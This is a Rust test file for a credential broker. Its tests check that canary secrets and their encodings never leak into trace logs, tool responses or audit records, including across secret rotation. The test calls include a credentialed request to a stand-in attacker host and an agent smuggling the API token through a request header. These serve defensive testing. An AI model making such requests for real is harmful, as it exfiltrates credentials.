//! T14 canary sweep: the server runs with every log at TRACE; a run of allowed, denied, failing
//! and echoing calls is made; then every log line, response and audit record is searched for the
//! test secrets and their common encodings.

mod common;

use base64::Engine as _;
use common::*;
use serde_json::json;
use std::io::Write;
use std::sync::{Arc, Mutex};

#[derive(Clone, Default)]
struct Buf(Arc<Mutex<Vec<u8>>>);

impl Write for Buf {
    fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(b);
        Ok(b.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

fn encodings(s: &str) -> Vec<String> {
    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
    let mut v = vec![
        s.to_owned(),
        STANDARD.encode(s),
        URL_SAFE_NO_PAD.encode(s),
        hex::encode(s),
        hex::encode_upper(s),
        s.chars().rev().collect(),
        STANDARD.encode(format!("Bearer {s}")),
    ];
    // Stable cores of base64 at the other two alignments.
    for pad in ["a", "ab"] {
        let e = STANDARD.encode(format!("{pad}{s}"));
        v.push(e[4..e.len() - 4].to_owned());
    }
    v
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn t14_no_secret_in_logs_responses_or_audit() {
    let buf = Buf::default();
    let writer = buf.clone();
    tracing_subscriber::fmt()
        .with_env_filter(tracing_subscriber::EnvFilter::new("trace"))
        .with_writer(move || writer.clone())
        .with_ansi(false)
        .init();

    // A postgres handle whose server is not there (port 1): its driver error carries the DSN.
    let f = Fixture::start_with(|t| {
        format!(
            "{t}\n[handles.PG_DOWN]\nkind = \"postgres\"\nsecret = \"env:AIRLOCK_CANARY_PG_DSN\"\n\n[agents.pg]\ngrants = [{{ handle = \"PG_DOWN\", tools = [\"query_db\"] }}]\n"
        )
    })
    .await;
    let pg_dsn = "postgres://canaryuser:canaryPgPass_Hw72Lx@127.0.0.1:1/db";
    // Set before the broker resolved it at call time (env backends are read per resolution).
    std::env::set_var("AIRLOCK_CANARY_PG_DSN", pg_dsn);
    let (_, pg_token) = f.store.add_agent("pg", None, None).await.unwrap();
    f.broker.rebuild_scrubber().await.unwrap();

    let mut responses = String::new();
    let calls = vec![
        (f.token.clone(), "query_db", json!({"credential_handle": "APP_DB", "query": "SELECT * FROM orders"})),
        (f.token.clone(), "query_db", json!({"credential_handle": "APP_DB", "query": "SELECT * FROM secrets_table"})),
        (f.token.clone(), "query_db", json!({"credential_handle": "APP_DB", "query": "SELECT nonexistent_col FROM orders"})),
        (f.token.clone(), "query_db", json!({"credential_handle": "RW_DB", "query": "UPDATE orders SET total = total"})),
        (f.token.clone(), "http_request", json!({"credential_handle": "API", "method": "GET", "path_or_url": "/v1/echo"})),
        (f.token.clone(), "http_request", json!({"credential_handle": "API", "method": "POST", "path_or_url": "/v1/items", "body": "{\"a\":1}"})),
        (f.token.clone(), "http_request", json!({"credential_handle": "API", "method": "GET", "path_or_url": "https://attacker.test/"})),
        (f.token.clone(), "http_request", json!({"credential_handle": "API", "method": "GET", "path_or_url": "/v1/items", "headers": {"X-Echo": API_TOKEN}})),
        (pg_token.reveal().to_owned(), "query_db", json!({"credential_handle": "PG_DOWN", "query": "SELECT 1"})),
        ("garbage".to_owned(), "query_db", json!({})),
    ];
    for (tok, tool, args) in calls {
        let (_, v) = f.invoke_as(&tok, tool, args).await;
        responses.push_str(&v.to_string());
    }
    // The PG call failed with a fixed code.
    assert!(responses.contains("upstream-unavailable") || responses.contains("query-failed"), "{responses}");

    let mut audit = String::new();
    for (_, r) in f.store.audit_tail(1000).await.unwrap() {
        audit.push_str(&serde_json::to_string(&r).unwrap());
    }
    let logs = String::from_utf8_lossy(&buf.0.lock().unwrap()).into_owned();
    assert!(logs.len() > 1000, "trace logging was captured ({} bytes)", logs.len());

    let mut secrets = vec![API_TOKEN.to_owned(), f.db_dsn.clone(), "canaryPgPass_Hw72Lx".to_owned(), "canaryGeneric_Zx81Lq0Pw".to_owned()];
    secrets.push(pg_dsn.to_owned());
    for s in &secrets {
        for e in encodings(s) {
            for (name, hay) in [("logs", &logs), ("responses", &responses), ("audit", &audit)] {
                assert!(!hay.contains(&e), "secret encoding {e:?} found in {name}");
            }
        }
    }
    // The agent's attempt to smuggle the token through a header it wrote is scrubbed in the audit.
    assert!(audit.contains("[REDACTED:API]"), "{audit}");
}

/// T18 across a rotation: `secret rotate` switches the handle to the new value at once, and the
/// value it replaced (still valid upstream during the overlap) stays redacted from every result
/// until the overlap ends; then it is dropped.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn t18_a_rotated_secret_stays_redacted_for_its_overlap_and_the_new_one_is_used() {
    let f = Fixture::start().await;
    const NEW: &str = "canaryRotatedTok_Pq5Wz1Kd8Ls3Mv7";
    // A row that holds the old token, as an upstream or a table might after a rotation.
    {
        use sqlx::Connection;
        let mut c = sqlx::SqliteConnection::connect(&f.db_dsn.replace("mode=ro", "mode=rw")).await.unwrap();
        sqlx::query("INSERT INTO orders VALUES (9, ?, 1)").bind(format!("old key {API_TOKEN} and new {NEW}")).execute(&mut c).await.unwrap();
        c.close().await.unwrap();
    }
    let data = f.dir.path().join("data");
    let vault = airlock_vault::Vault::new(airlock_vault::MasterKey::load(&data.join("master.key")).unwrap(), f.store.clone());
    let v = vault.rotate("API", &airlock_core::Secret::from_str_value(NEW), std::time::Duration::from_secs(3)).await.unwrap();
    assert_eq!(v, 2);
    assert!(vault.rotate("NOPE", &airlock_core::Secret::from_str_value(NEW), std::time::Duration::ZERO).await.is_err());
    // As another process's change: the broker picks it up.
    assert!(f.broker.refresh().await.unwrap());
    let (s, v) = f.invoke("query_db", json!({"credential_handle": "APP_DB", "query": "SELECT item FROM orders WHERE id = 9"})).await;
    assert_eq!(s, 200, "{v}");
    let text = v.to_string();
    assert!(!text.contains(API_TOKEN) && !text.contains(NEW), "both values are redacted: {text}");
    assert!(text.contains("[REDACTED:API]"), "{text}");
    // The upstream gets the new value, never the old one again.
    let (s, v) = f.invoke("http_request", json!({"credential_handle": "API", "method": "GET", "path_or_url": "/v1/echo"})).await;
    assert_eq!(s, 200, "{v}");
    assert!(!v.to_string().contains(NEW) && !v.to_string().contains(API_TOKEN), "{v}");
    let sent = f.upstream_requests().into_iter().last().unwrap();
    let auth = sent.headers.iter().find(|(k, _)| k == "authorization").map(|(_, v)| v.clone()).unwrap();
    assert_eq!(auth, format!("Bearer {NEW}"));
    // After the overlap the retired value is dropped.
    tokio::time::sleep(std::time::Duration::from_millis(3100)).await;
    assert!(f.broker.refresh().await.unwrap(), "dropping it moves the generation");
    assert!(f.store.retired_sealed().await.unwrap().is_empty());
    let (_, v) = f.invoke("query_db", json!({"credential_handle": "APP_DB", "query": "SELECT item FROM orders WHERE id = 9"})).await;
    assert!(!v.to_string().contains(NEW), "the current value is still redacted: {v}");
}
